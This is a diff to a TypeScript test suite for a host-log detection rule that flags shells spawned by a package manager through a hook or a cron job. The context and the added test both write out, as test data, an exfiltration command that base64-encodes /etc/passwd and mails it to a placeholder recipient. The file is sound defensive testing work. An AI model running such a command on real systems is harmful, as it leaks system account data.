@@ -17,6 +17,7 @@ async function told(log: HostLog): Promise<{ severity: string; factors: readonly
 }
 
 const HOOK = 'started by a hook, not by the person';
+const BACKGROUND = 'runs in the background';
 const PACKED = 'packed or encoded data in the pipeline';
 
 function packs(shell: Process, log: HostLog, to = TO): void {
@@ -50,6 +51,20 @@ test('the copy of a package manager that becomes the shell is not on record: the
   for (let i = 0; i < 20; i++) apt.run('/usr/bin/dpkg --print-foreign-architectures');
   packs(apt.fork().run(['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x']), log);
   assert.ok((await told(log))?.factors.includes(HOOK));
+});
+
+test("what a job's package manager has run is the job's, apart from what it does for somebody at a terminal", async () => {
+  const { log, apt } = administrator();
+  const words = ['/bin/sh', '-c', '(cat /etc/passwd | openssl base64) | sendmail x'];
+  packs(apt.run(words), log);
+  log.wait(60 * SECOND);
+  const nightly = log.cron('root', 'apt-get -y upgrade').run('/usr/bin/apt-get -y upgrade');
+  packs(nightly.run(words), log);
+  const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN0380');
+  const how = found.map(({ factors }) =>
+    factors.map(({ name }) => name).find(each => [HOOK, BACKGROUND].includes(each)),
+  );
+  assert.deepEqual(how.toSorted(), [BACKGROUND, HOOK].toSorted());
 });
 
 test('words of other programs that look like the -c of a shell are none, and the shell of a hook may speak SMTP itself', async () => {
